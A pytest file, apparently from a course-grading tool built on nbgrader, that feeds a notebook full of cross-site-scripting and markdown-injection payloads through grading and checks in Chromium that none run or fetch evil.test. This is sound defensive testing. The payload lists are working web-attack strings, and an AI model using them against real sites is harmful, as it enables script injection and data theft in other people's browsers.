"""What a learner writes cannot act in the browser of whoever grades it.

A submission full of attacks is graded for real, and its pages are opened in Chromium: the feedback
page and the formgrader's. No script of the learner's runs, nothing is fetched but what nbgrader's
own templates fetch, and the report cards are as they were made.
"""

import json
import os
import re
import subprocess
import sys
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest

from bplab.grading import batch
from bplab.grading.book import scheme
from bplab.grading.sandbox import available
from bplab.grading.submission import clean
from tests import patience, ports

HTML = [
    "<script>hacked(1)</script>",
    "<ScRiPt src=http://evil.test/a.js></sCrIpT>",
    "<img src=x onerror=hacked(2)>",
    "<img src='http://evil.test/pixel.png'>",
    "<svg onload=hacked(3)><script>hacked(4)</script></svg>",
    "<svg><animate onbegin=hacked(5) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=hacked(6)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=hacked(7)>'>",
    "<iframe src='javascript:hacked(8)'></iframe>"
    "<iframe srcdoc='<script>parent.hacked(9)</script>'>",
    "<a href='javascript:hacked(10)' id=click1>click</a>",
    "<a href='jav&#x09;ascript:hacked(11)'>click</a>",
    "<a href=' &#14; javascript:hacked(12)'>click</a>",
    "<form action='http://evil.test'><button autofocus onfocus=hacked(13)>ok</button></form>",
    "<details open ontoggle=hacked(14)>x</details>",
    "<style>@import 'http://evil.test/a.css'; body{background:url(http://evil.test/b.png)}</style>",
    "<div style='background:url(http://evil.test/c.png)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px'>cover</div>",
    "<link rel=stylesheet href=http://evil.test/d.css><base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<object data='data:text/html,<script>parent.hacked(15)</script>'></object><embed src=x>",
    "<video src=http://evil.test/v.mp4 onerror=hacked(16) autoplay></video><audio src=x>",
    "<input class='score tabbable' id='check_sigmoid' value=99><textarea id='sigmoid-comment'>",
    "<template><script>hacked(17)</script></template><xmp><script>hacked(18)</script></xmp>",
    "<p title='\"><script>hacked(19)</script>'>x</p><!--><script>hacked(20)</script>-->",
    "<select><option><script>hacked(21)</script></select><title><img onerror=hacked(22) src=x>",
    "</div></div></div></body></html><script>hacked(23)</script>",
    "<h1 id=check_mse_loss class='panel nbgrader_cell'>x</h1>",
]
MARKDOWN = [
    "[x](javascript:hacked(30))",
    "[x](<javascript:hacked(31)>)",
    "[x][r]\n\n[r]: javascript:hacked(32)",
    "[x](\n javascript:hacked(33))",
    "<javascript:hacked(34)>",
    "![p](http://evil.test/e.png) ![q][img]\n\n[img]: http://evil.test/f.png",
    "![gone](attachment:nowhere.png)",
    '[x](https://ok.test/"onmouseover="hacked(35))',
    "# check_sigmoid\n\nsigmoid-comment\n===\n",
    "```mermaid\ngraph <img src=x onerror=hacked(36)>\n```",
    "`<img src=x onerror=hacked(37)>` and $\\href{javascript:hacked(38)}{x}$",
    "$$\\require{action}\\style{background:url(http://evil.test/g.png)}{x}$$",
    "\\begin{x}<img src=x onerror=hacked(39)>\\end{x}",
    "| a |\n|---|\n| <img src=x onerror=hacked(40)> |",
    "&lt;script&gt;hacked(41)&lt;/script&gt;",
]
SHOW = """
from IPython.display import HTML, Latex, Markdown, SVG, Javascript, display, publish_display_data
attacks = {attacks!r}
for attack in attacks:
    display(HTML(attack)); display(Markdown(attack)); display(Latex(attack)); print(attack)
    publish_display_data({{"image/svg+xml": "<svg>" + attack + "</svg>"}})
    publish_display_data({{"text/html": attack}}, {{"text/html": {{"isolated": True}}}})
    publish_display_data({{"application/javascript": "hacked(50)", "text/vnd.mermaid": attack}})
    publish_display_data({{"application/vnd.jupyter.widget-view+json": {{"model_id": attack}}}})
display(Javascript("hacked(51)"))
pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPgPAAED"
pixel += "AQAIicLsAAAAAElFTkSuQmCC"
publish_display_data({{"image/png": pixel}}, {{"image/png": {{"width": "1 onload=hacked(52)"}}}})
publish_display_data({{"image/png": '"><script>hacked(53)</script>'}})
raise ValueError(attacks[0] + attacks[2])
"""
GUARD = """
window.hacked = number => { (window.__hacks = window.__hacks || []).push(number) };
"""
FORBIDDEN = """() => {
    const root = document.querySelector('#notebook'), found = [];
    for (const e of root.querySelectorAll('*')) {
        const tag = e.tagName.toLowerCase();
        const banned = ['script', 'iframe', 'object', 'embed', 'form', 'style', 'link', 'meta',
                        'base', 'video', 'audio', 'svg', 'math', 'template', 'select'];
        if (banned.includes(tag)) found.push(tag + ': ' + e.outerHTML.slice(0, 100));
        for (const a of e.attributes) {
            const value = a.value.replace(/[\\x00-\\x20]/g, '').toLowerCase();
            if (a.name.startsWith('on') || value.startsWith('javascript:')
                || (/url\\(|fixed/.test(value) && a.name == 'style'))
                found.push(tag + ' ' + a.name + '=' + a.value.slice(0, 100));
        }
    }
    return found;
}"""


def hostile(room, builders):
    markdown, code = builders
    notebook = room.solved(
        mse_loss="def mse_loss(p, y):\n"
        "    raise ValueError('<img src=x onerror=hacked(60)>')  # <script>hacked(61)</script>",
    )
    for number, attack in enumerate([*HTML, *MARKDOWN]):
        cell = markdown(f"attack-{number}", attack)
        cell["attachments"] = {"a.png": {"image/png": "x"}}
        notebook["cells"].append(cell)
    notebook["cells"].append(code("show", SHOW.format(attacks=[*HTML, *MARKDOWN])))
    raw = {"cell_type": "raw", "source": HTML[0], "metadata": {"raw_mimetype": "text/html"}}
    notebook["cells"].append(raw)
    room.find(notebook, "check_sigmoid")["metadata"]["tags"] = ["'><script>hacked(62)</script>"]
    room.find(notebook, "check_sigmoid")["source"] = "<script>hacked(64)</script>"
    notebook["metadata"]["title"] = "<script>hacked(63)</script>"
    return notebook


@pytest.fixture
def page(chromium):
    page = chromium.new_page()
    page.set_default_timeout(patience.MILLISECONDS)
    yield page
    page.close()


def visit(page, url, own=()):
    """Open a page with the network cut off; what it asked for, and what ran."""
    asked = []

    def route(call):
        wanted = call.request.url
        if wanted.startswith(("file:", "data:", *own)):
            call.continue_()
        else:
            asked.append(wanted)
            call.abort()

    page.context.add_init_script(GUARD)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route("**/*", route)
    page.goto(url, wait_until="load")
    page.wait_for_timeout(500)
    for link in page.query_selector_all("#notebook a[href]"):
        if not (link.get_attribute("href") or "").startswith(("http", "#", "mailto")):
            link.click(force=True, no_wait_after=True)
    page.wait_for_timeout(200)
    hacks = page.evaluate("window.__hacks || []")
    forbidden = page.evaluate(FORBIDDEN)
    page.unroute("**/*")
    return asked, hacks + dialogs, forbidden


def nbgrader(room, *arguments):
    environment = os.environ | {
        "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", "")
    }
    return subprocess.run(
        [sys.executable, "-m", "nbgrader", *arguments],
        cwd=room.root,
        env=environment,
        capture_output=True,
        text=True,
        timeout=patience.SECONDS,
    )


@pytest.fixture
def graded(room, builders):
    if not available()[0]:
        pytest.skip(available()[1])
    room.hand_in("eve", hostile(room, builders))
    room.hand_in("ada", room.solved())
    results = batch.grade(room.chapter, room.root)
    assert [result.status for result in results] == ["graded", "graded"]
    return room


STOCK = re.compile(r"https://cdnjs\.cloudflare\.com/ajax/libs/mathjax/")


@pytest.mark.slow
@pytest.mark.browser
def test_feedback_pages_are_safe_to_open(graded, page):
    done = nbgrader(graded, "generate_feedback", graded.chapter)
    assert done.returncode == 0, done.stderr[-3000:]
    path = graded.root / "feedback" / "eve" / graded.chapter / f"{graded.chapter}.html"
    asked, ran, forbidden = visit(page, path.as_uri())
    assert (ran, forbidden) == ([], [])
    assert all(STOCK.match(url) for url in asked), asked
    assert page.locator("div.bplab-card").count() == 4
    text = page.locator("#notebook").first.inner_text()
    assert "hacked(1)" in text  # what was written can still be read
    assert "About this submission" in text
    page.emulate_media(media="print")  # nothing scrolls on paper: long lines go on below
    pre = page.locator("#notebook pre").first
    assert pre.evaluate("node => getComputedStyle(node).whiteSpace") == "pre-wrap"


@pytest.mark.slow
@pytest.mark.browser
def test_the_formgrader_is_safe_to_open_and_shows_the_scores(graded, page):
    [port] = ports.free()
    base = f"http://127.0.0.1:{port}"
    server = subprocess.Popen(
        [
            *[sys.executable, "-m", "jupyter_server", "--no-browser", f"--port={port}"],
            *["--allow-root", "--IdentityProvider.token=", f"--ServerApp.root_dir={graded.root}"],
            "--ServerApp.disable_check_xsrf=True",
            "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
        ],
        cwd=graded.root,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        await_server(f"{base}/api", server)
        with graded.gradebook() as book:
            key = (graded.chapter, graded.chapter, "eve")
            number = book.find_submission_notebook(*key).id
        url = f"{base}/formgrader/submissions/{number}/"
        asked, ran, forbidden = visit(page, url, own=(base,))
        assert (ran, forbidden) == ([], [])
        assert all(STOCK.match(url) for url in asked), asked
        page.wait_for_selector("input.score#check_sigmoid[placeholder='1']")
        assert page.locator("[id=check_sigmoid], [id=check_mse_loss]").count() == 2
        with urllib.request.urlopen(f"{base}/formgrader/api/submissions/{graded.chapter}") as r:
            rows = {row["student"]: row for row in json.load(r)}
        assert rows["eve"]["autograded"] and not rows["eve"]["needs_manual_grade"]
        assert rows["ada"]["score"] == 6
        before = graded.scores()
        button = f"{base}/formgrader/api/submission/{graded.chapter}/eve/autograde"
        with urllib.request.urlopen(urllib.request.Request(button, method="POST")) as reply:
            done = json.load(reply)
        assert done["success"], done
        assert graded.scores() == before
    finally:
        server.terminate()
        server.wait(patience.SECONDS)


def await_server(url, server):
    for _ in range(2 * patience.SECONDS):
        assert server.poll() is None, "the server has ended"
        try:
            urllib.request.urlopen(url, timeout=30)
            return
        except OSError:
            time.sleep(0.5)
    raise TimeoutError(url)


# Cleaning by itself


@pytest.mark.parametrize("attack", HTML + MARKDOWN)
def test_cleaning_is_done_once_and_for_all(attack):
    for function in (clean.html, clean.markdown):
        once = function(attack)
        assert function(once) == once
    assert not re.search(
        r"<\s*(script|iframe|style|form|input|svg)|\son\w+\s*=", clean.html(attack)
    )
    assert not re.search(r"<[A-Za-z/!?]", clean.markdown(attack))


def test_cards_are_left_as_they_are():
    from bplab import exercises

    for exercise in exercises.chapter("01_single_neuron"):
        for function in (exercise.reference, lambda *args: 1 / 0, lambda *args: "<b>&amp;</b>"):
            page = exercise.examine(function).html(points=3)
            assert clean.html(page) == page


def test_ordinary_outputs_are_kept():
    table = '<table border="1"><tbody><tr><td style="text-align:right">1</td></tr></tbody></table>'
    shown = [
        {"output_type": "stream", "name": "stderr", "text": "a warning\n"},
        {
            "output_type": "display_data",
            "data": {"text/html": table, "text/plain": "1", "text/latex": "$x^2$"},
            "metadata": {},
        },
        {
            "output_type": "execute_result",
            "data": {"text/plain": "3"},
            "metadata": {},
            "execution_count": 2,
        },
        {
            "output_type": "error",
            "ename": "E",
            "evalue": "v",
            "traceback": ["\x1b[31mE\x1b[0m: v"],
        },
    ]
    assert clean.outputs(shown) == shown


@pytest.mark.parametrize(
    "junk",
    [
        None,
        {},
        ["x", 3, None, {"output_type": 7}, {"output_type": "stream", "text": 4}],
        [{"output_type": "display_data", "data": {"text/plain": {"a": 1}, 3: "x"}}],
        [{"output_type": "execute_result", "data": [], "execution_count": "9"}],
        [{"output_type": "error", "traceback": "abc"}, {"output_type": "error", "traceback": [1]}],
        [{"output_type": "display_data", "data": {"image/png": "not base 64!", "text/html": 4}}],
    ],
)
def test_outputs_that_are_none_become_valid_or_nothing(junk):
    import nbformat

    cell = {"cell_type": "code", "id": "a", "metadata": {}, "source": "", "execution_count": None}
    cell["outputs"] = clean.outputs(junk)
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    nbformat.validate(nbformat.from_dict(book))


def test_megabytes_are_cut():
    flood = [{"output_type": "stream", "name": "stdout", "text": "x" * 10_000_000}]
    flood += [{"output_type": "stream", "name": "stdout", "text": "y\n" * 100_000}] * 500
    done = clean.outputs(flood)
    assert len(json.dumps(done)) < 1_000_000
    assert "cut" in done[0]["text"]


@pytest.mark.browser
def test_the_watch_sees_what_is_not_cleaned(tmp_path, page):
    path = tmp_path / "page.html"
    path.write_text(f"<div id='notebook'>{HTML[0]}{HTML[2]}{HTML[3]}</div>")
    asked, ran, forbidden = visit(page, path.as_uri())
    assert sorted(ran) == [1, 2]
    assert asked == ["http://evil.test/pixel.png"]
    assert len(forbidden) == 2


def test_pages_cleaned_side_by_side_are_those_of_one_after_the_other():
    """What came back from a cluster is cleaned in the threads that wait for it."""
    before = sys.getswitchinterval()
    cards = [f"<div><p><strong>{n}</strong> of {n}<em>!</em></p></div>" for n in range(200)]
    alone = [clean.html(card) for card in cards]
    try:
        sys.setswitchinterval(1e-5)
        with ThreadPoolExecutor(4) as pool:
            assert list(pool.map(clean.html, cards)) == alone
    finally:
        sys.setswitchinterval(before)


@pytest.mark.parametrize("colors", [scheme.LIGHT, scheme.DARK], ids=["day", "night"])
def test_letters_can_be_read_by_day_and_by_night(colors):
    """4.5 to 1, as WCAG has it, on all that words stand on."""

    def light(color):
        parts = [int(color[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
        return sum(w * p for w, p in zip((0.2126, 0.7152, 0.0722), linear, strict=True))

    for letters, grounds in (("ink", ("paper", "soft", "both")), ("dim", ("paper",))):
        for ground in grounds:
            low, high = sorted(light(colors[name]) for name in (letters, ground))
            assert (high + 0.05) / (low + 0.05) >= 4.5, (letters, ground)
